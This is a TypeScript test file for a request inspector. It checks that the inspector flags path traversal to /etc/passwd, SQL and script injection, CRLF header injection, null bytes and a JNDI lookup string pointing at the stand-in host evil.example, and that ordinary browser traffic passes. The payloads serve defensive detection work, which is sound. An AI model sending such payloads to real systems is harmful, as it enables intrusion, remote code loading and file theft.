import fc from 'fast-check';
import { describe, expect, it, vi } from 'vitest';
import { inspectRequest } from './inspect-request.ts';

// Ten thousand inputs take their time on a busy machine.
vi.setConfig({ testTimeout: 60_000 });

const at = (path: string, headers: Record<string, string> = {}) =>
  inspectRequest(new Request(`http://test${path}`, { headers }))?.attack;

describe('a request', () => {
  it.each([
    ['in its path', '/files/..%2f..%2fetc%2fpasswd', 'traversal'],
    ['in its path, encoded twice', '/files/%252e%252e%252fetc%252fpasswd', 'traversal'],
    ['across its path', '/static/..;/admin', 'traversal'],
    ['in one step of its path', "/people/1'%20OR%20'1'='1", 'sql'],
    ['in a value of its query', '/people?q=%3Cscript%3Ealert(1)%3C/script%3E', 'script'],
    ['in a name of its query', '/people?%3Cscript%3Ealert(1)', 'script'],
    ['in what its query names', `/people?a${'[b]'.repeat(9)}=1`, 'nesting'],
    ['with a line break in its query', '/go?to=/x%0d%0aSet-Cookie:%20a=b', 'header'],
    ['with a zero byte', '/files/a.svg%00.png', 'header'],
  ])('tells on itself %s', (_, path, attack) => {
    expect(at(path)).toBe(attack);
  });

  it('tells on itself in its headers', () => {
    expect(at('/', { 'user-agent': '${jndi:ldap://evil.example/a}' })).toBe('template');
    expect(at('/', { 'x-note': "x' OR '1'='1" })).toBe('sql');
  });

  it.each([
    ['where somebody asks about markup', 'how do I close a <script> tag'],
    ['that was left for another', '/stories/../x'],
    ['that quotes an attack', "<script>alert(1)</script> ' OR 1=1 --"],
  ])('is left alone for the page it comes from and what that has stored: one %s', (_, text) => {
    const written = encodeURIComponent(text);
    expect(at('/', { referer: `https://app.example/search?q=${written}` })).toBeUndefined();
    expect(at('/', { cookie: `last=${written}` })).toBeUndefined();
    expect(at('/', { cookie: `last=${text}` })).toBeUndefined();
  });

  it('is left alone as browsers send it', () => {
    const path =
      '/api/characters/018f3c5e-7b1a-7c3e-9d2b-0a1b2c3d4e5f/notes?after=12&filter[name]=x&sort=-date' +
      '&redirect_uri=https%3A%2F%2Fapp.example%2Fcb%3Fa%3D1%26b%3D2&state=eyJ4IjoiPT0ifQ%3D%3D' +
      '&q=%22sea%22+or+%22shore%22&name=O%27Brien';
    const headers = {
      accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8',
      'accept-language': 'de-DE,de;q=0.9,en;q=0.5',
      authorization: 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_',
      baggage: 'a=b;c=d,e=f',
      'content-type': 'multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW',
      cookie: '__Host-session=abc%3D%3D; theme="dark"; _ga=GA1.2.3',
      forwarded: 'for="[2001:db8:cafe::17]:4711";proto=https;by=203.0.113.43',
      'holdfast-subject': 'm%C3%A1ra',
      'if-none-match': 'W/"5f-18c2a8d6b80"',
      'sec-ch-ua': '"Not)A;Brand";v="99", "Chromium";v="156", "Google Chrome";v="156"',
      'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:153.0) Gecko/20100101 Firefox/153.0',
    };
    expect(at(path, headers)).toBeUndefined();
  });

  it('never makes it fail', () => {
    fc.assert(
      fc.property(fc.webPath(), fc.webQueryParameters(), (path, query) => {
        expect(() => at(`${path}?${query}`)).not.toThrow();
      }),
      { numRuns: 10_000 },
    );
  });
});
